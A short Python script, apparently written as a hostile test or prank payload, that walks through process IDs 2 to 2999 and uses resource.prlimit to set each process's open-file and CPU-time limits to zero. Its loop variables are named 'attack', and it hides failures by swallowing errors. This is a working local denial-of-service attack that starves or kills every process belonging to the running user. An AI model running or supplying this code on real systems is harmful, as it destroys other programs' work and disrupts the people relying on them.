"""Takes from all processes of its user what they may use, or the time that they get."""

import os
import resource

for pid in [0, *range(2, 3000)]:
    for attack in (
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)) if pid else None,
        lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)) if pid else None,
    ):
        try:
            attack()
        except (OSError, ValueError):
            pass
print(os.getpid() > 0)
